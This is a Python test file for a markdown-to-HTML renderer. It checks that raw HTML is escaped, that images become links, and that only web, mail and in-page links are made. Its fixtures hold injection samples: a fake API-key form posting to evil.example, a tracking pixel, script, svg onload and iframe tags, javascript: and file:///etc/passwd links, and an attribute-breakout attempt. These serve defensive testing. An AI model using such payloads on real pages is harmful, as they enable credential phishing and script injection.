"""The one markdown renderer of the HTML export and the UI: raw HTML is text, no image is loaded, only safe links."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest

from App_Function_Libraries.DB.markdown_html import markdown_to_html

# what a page can hold and a report can quote verbatim
HOSTILE = ('Bees dance <img src="http://127.0.0.1:9/beacon.gif"> well. '
           '<form action="http://evil.example/steal" method="post">Re-enter your API key: <input name="key">'
           '<button>Save</button></form> <a href="http://evil.example/fake">[1]</a> '
           '![pixel](http://127.0.0.1:9/pixel.png "t") <script>alert(1)</script> '
           '<svg onload="alert(2)"></svg> <iframe src="http://evil.example/"></iframe> [1]\n\n'
           '<div style="position:fixed;inset:0">cover</div>\n')
ACTIVE_TAGS = {"img", "form", "input", "button", "script", "svg", "iframe", "object", "embed", "video", "audio",
               "source", "link", "style", "meta", "base", "textarea", "select", "div"}


class Tags(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def hrefs(self) -> list[str]:
        return [attrs.get("href") for tag, attrs in self.tags if tag == "a"]


def assert_inert(rendered: str, allowed_hrefs: set[str]) -> None:
    """No element that loads, submits or covers anything; links only to `allowed_hrefs`; no inline handlers."""
    tags = Tags(rendered)
    assert not [t for t, _ in tags.tags if t in ACTIVE_TAGS], rendered
    assert set(tags.hrefs()) <= allowed_hrefs, rendered
    assert not [a for _, attrs in tags.tags for a in attrs if a.startswith("on") or a in ("src", "style", "action")]


def cite_one(n: int):
    return ("https://bees.example/dance", "Waggle dance") if n == 1 else None


def test_raw_html_in_a_report_shows_as_text():
    out = markdown_to_html(HOSTILE, cite_one)
    assert_inert(out, {"https://bees.example/dance", "http://127.0.0.1:9/pixel.png"})
    assert '&lt;img src="http://127.0.0.1:9/beacon.gif"&gt;' in out
    assert '&lt;form action="http://evil.example/steal" method="post"&gt;Re-enter your API key' in out
    assert '&lt;a href="http://evil.example/fake"&gt;' in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "&lt;div style=" in out


def test_an_image_is_a_link_to_it_never_loaded():
    out = markdown_to_html("See ![a chart](https://img.example/c.png) and ![x](javascript:alert(1)) "
                           "and [![inner](https://img.example/i.png)](https://page.example/)")
    assert_inert(out, {"https://img.example/c.png", "https://page.example/"})
    assert '<a href="https://img.example/c.png" target="_blank" rel="noopener noreferrer nofollow">' \
           '[image: a chart]</a>' in out
    assert "![x](javascript:alert(1))" in out and "[image: inner]" in out  # a bad target is no image at all


@pytest.mark.parametrize("target, linked", [
    ("https://ok.example/a?b=1&c=2", True), ("http://ok.example", True), ("mailto:a@b.example", True),
    ("#source-2", True), ("javascript:alert(1)", False), ("JaVaScRiPt:alert(1)", False),
    ("data:text/html,<b>x</b>", False), ("vbscript:x", False), ("file:///etc/passwd", False),
    ("/gradio_api/file=x", False), ("relative/page", False), ("ftp://files.example/x", False),
    ("http://[", True),  # markdown-it percent-encodes it: http://%5B, a harmless (dead) link
])
def test_links_are_made_only_to_web_mail_and_in_page_targets(target, linked):
    out = markdown_to_html(f"[the text]({target})")
    assert "the text" in out
    assert bool(Tags(out).hrefs()) == linked, out


def test_external_links_open_in_a_new_tab_without_referrer_and_anchors_stay():
    out = markdown_to_html("[a](https://a.example) [b](#b-source-1)")
    assert '<a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">a</a>' in out
    assert '<a href="#b-source-1">b</a>' in out


def test_citations_link_to_sources_unless_escaped_in_a_link_or_unknown():
    out = markdown_to_html("Fact [1]. Group [1, 2]. Unknown [7]. Escaped \\[1]. In a [link [1]](https://x.example). "
                           "`code [1]`", cite_one)
    tags = Tags(out)
    assert tags.hrefs().count("https://bees.example/dance") == 2 and "https://x.example" in tags.hrefs()
    assert ' title="Waggle dance" target="_blank" rel="noopener noreferrer nofollow">[1]</a>.' in out
    assert "Unknown [7]. Escaped [1]." in out and "<code>code [1]</code>" in out
    assert markdown_to_html("Fact [1].", lambda n: ("javascript:alert(1)", "")) == "<p>Fact [1].</p>\n"


def test_a_linked_group_and_its_punctuation_are_one_tight_unit():
    """The UI spread "[1, 2]." into "[ 1 , 2 ] ." (Gradio pads every link): a linked group and the punctuation
    right after it are one span, that CITE_CSS keeps on one line with its links unpadded."""
    from App_Function_Libraries.DB.markdown_html import CITE_CSS
    both = lambda n: ("#web-evidence-%d" % n, "") if n in (1, 2) else None  # noqa: E731
    out = markdown_to_html("The comb [1]. Several describe it [1, 2]; others [2-3] (not [1]).", both)
    spans = [t for t, attrs in Tags(out).tags if t == "span" and attrs.get("class") == "cite"]
    assert len(spans) == 4, out
    assert '<span class="cite"><a href="#web-evidence-1">[1]</a>.</span>' in out
    assert ('<span class="cite">[<a href="#web-evidence-1">1</a>, <a href="#web-evidence-2">2</a>];</span>'
            in out), out
    assert '<span class="cite">[<a href="#web-evidence-2">2</a>, 3]</span> (not' in out
    assert '<span class="cite"><a href="#web-evidence-1">[1]</a>).</span>' in out
    assert ".cite{white-space:nowrap}" in CITE_CSS and ".cite a,.sources a,.evidence a{padding:0!important}" in CITE_CSS
    # nothing linked, nothing wrapped
    assert markdown_to_html("Unknown [7].", both) == "<p>Unknown [7].</p>\n"


def test_a_broken_address_is_text_not_an_error():
    assert markdown_to_html("Fact [1].", lambda n: ("http://[", "t")) == "<p>Fact [1].</p>\n"


def test_a_title_cannot_break_out_of_its_attribute():
    out = markdown_to_html("[1] [x](https://a.example \"t\\\" onmouseover=\\\"alert(1)\")",
                           lambda n: ("https://b.example/?q=\"><img src=x>", '"><script>x</script>'))
    assert_inert(out, {"https://a.example", "https://b.example/?q=\"><img src=x>"})
    assert "&quot;&gt;&lt;script&gt;" in out


def test_an_ordered_list_item_keeps_a_skipped_number():
    """A sources list "1. … 3. …" (cited [1] and [3], [2] read but not cited) shows 1 and 3, not 1 and 2."""
    from App_Function_Libraries.DB.markdown_html import markdown_to_html
    page = markdown_to_html("1. one\n3. three\n4. four\n\n### Read but not cited\n\n2. two\n")
    assert '<li value="3">three</li>' in page and "<li>four</li>" in page and '<ol start="2">' in page
    assert 'value' not in markdown_to_html("1. one\n2. two\n")  # a list that counts on is left as it is


def test_a_passage_keeps_its_heading_on_its_own_line():
    """Issue 22 item 5: a passage's heading (Retrieval/passages._join puts a line break after it) was shown glued
    to its first sentence ("…points to food A forager…"). Its line break is kept, as <br>, the text escaped;
    a quote running across the break is still found."""
    from App_Function_Libraries.DB.markdown_html import marked_passage, quote_span
    passage = "How the <b>waggle</b> dance points to food\nA forager  honey bee dances. It points."
    out = marked_passage(passage, "A forager honey bee dances.")
    assert out == ("How the &lt;b&gt;waggle&lt;/b&gt; dance points to food<br><mark>A forager honey bee dances."
                   "</mark> It points.")
    assert "food A forager" not in out
    assert marked_passage(passage, "") == ("How the &lt;b&gt;waggle&lt;/b&gt; dance points to food<br>"
                                           "A forager honey bee dances. It points.")
    assert quote_span(passage, "points to food A forager") == ("How the <b>waggle</b> dance ",
                                                               "points to food\nA forager",
                                                               " honey bee dances. It points.")
    assert marked_passage(passage, "points to food A forager").count("<br>") == 1
    assert marked_passage("One line only.", "line") == "One <mark>line</mark> only."
